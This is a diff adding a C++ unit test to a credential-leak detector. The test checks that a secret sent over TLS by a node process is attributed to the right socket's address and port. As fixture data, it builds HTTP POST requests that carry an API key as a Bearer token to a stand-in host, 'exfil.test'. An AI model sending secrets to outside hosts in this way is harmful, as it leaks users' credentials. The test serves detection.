@@ -8,6 +8,7 @@
 #include "credsentry_abi.h"
 #include "pipeline/pipeline.h"
 #include "pipeline_fixture.h"
+#include "../stream/decoders/client_hello_builder.h"
 #include "report/alert_json.h"
 
 namespace credsentry::pipeline {
@@ -129,6 +130,41 @@ TEST_F(PipelineTest, TlsKeyToUnexpectedSniAlertsOnceWithoutTheKey) {
   EXPECT_FALSE(AnyLineContains(key.substr(20, 40))) << "key fragment in alert JSON";
   // The retry, and the decoded header unit of each request, match again: counted, not alerted.
   EXPECT_GE(pipeline_->Counters()["alerts_suppressed_duplicate"], 1u);
+}
+
+// node's OpenSSL writes through a memory BIO: its SSL object never names a socket. The socket
+// whose ClientHello carried the same name gives the alert its address and port.
+TEST_F(PipelineTest, MemoryBioTlsObjectGetsTheAddressOfTheSocketItsClientHelloNamed) {
+  const std::string key = OpenAiKey();
+  Exec(110, 1, "node", "node\0fetch.js");
+  Connect(110, 21, "127.0.0.1", 9443, "node");  // another connection, another name
+  Data(CS_EV_SOCK_DATA, 110, 21, 0,
+       stream::decoders::testing::BuildClientHello("cdn.example", {"http/1.1"}), "node");
+  Connect(110, 22, "127.0.0.7", 8443, "node");
+  Data(CS_EV_SOCK_DATA, 110, 22, 0,
+       stream::decoders::testing::BuildClientHello("exfil.test", {"http/1.1"}), "node");
+  Sni(110, 0xb10, "exfil.test", "node");
+  Data(CS_EV_TLS_DATA, 110, -1, 0xb10,
+       "POST /v1 HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + key + "\r\n\r\n",
+       "node");
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  const auto& a = sink_.alerts[0];
+  EXPECT_EQ(a.destination.host, "exfil.test");
+  EXPECT_EQ(a.destination.name_source, "sni");
+  EXPECT_EQ(a.destination.ip, "127.0.0.7");
+  EXPECT_EQ(a.destination.port, 8443);
+
+  // Once that socket is closed the name no longer points anywhere: host only, no stale port.
+  Close(110, 22);
+  Sni(110, 0xb11, "exfil.test", "node");
+  Data(CS_EV_TLS_DATA, 110, -1, 0xb11,
+       "POST /v2 HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + OpenAiKey() +
+           "\r\n\r\n",
+       "node");
+  ASSERT_EQ(sink_.alerts.size(), 2u);
+  EXPECT_EQ(sink_.alerts[1].destination.host, "exfil.test");
+  EXPECT_EQ(sink_.alerts[1].destination.port, 0);
+  EXPECT_FALSE(AnyLineContains(key));
 }
 
 TEST_F(PipelineTest, ExpectedDestinationIsQuiet) {
